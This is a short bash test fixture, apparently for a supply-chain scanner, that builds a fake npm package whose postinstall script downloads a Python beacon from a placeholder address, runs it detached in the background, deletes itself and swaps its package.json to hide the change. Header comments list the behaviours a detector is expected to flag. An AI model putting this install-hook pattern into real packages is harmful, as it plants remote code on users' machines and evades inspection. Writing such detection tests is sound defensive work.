#!/bin/bash
# Models axios 1.14.1 (2026-03): a postinstall script fetches a remote access tool, starts it in the background and hides.
# must: execution/dependency-starts-interpreter
# must: command-and-control/dependency-downloads | command-and-control/dependency-fetches-from-address
# must: stealth/dependency-detaches
# must: stealth/dependency-swaps-manifest
# gate: fail
echo 'import time, urllib.request; urllib.request.urlopen("http://127.0.0.1:8000/beacon").read(); time.sleep(1)' > /mnt/served/ld.py
mkdir -p /tmp/pkg && cd /tmp/pkg
echo '{"name":"plain-crypto-js","version":"4.2.1","scripts":{"postinstall":"node setup.js"}}' > package.json
cat > setup.js <<'JS'
const { execSync } = require("child_process");
const fs = require("fs");
execSync("curl -s -o /tmp/ld.py http://198.51.100.7:8000/ld.py && nohup python3 /tmp/ld.py > /dev/null 2>&1 &", { shell: "/bin/sh" });
fs.unlinkSync(__filename);
fs.writeFileSync("package.md", JSON.stringify({ name: "plain-crypto-js", version: "4.2.0" }));
fs.renameSync("package.md", "package.json");
JS
cd "$WORKSPACE" && echo '{"name":"app","version":"1.0.0"}' > package.json
npm install --offline --no-audit --no-fund --install-links --foreground-scripts /tmp/pkg
sleep 1
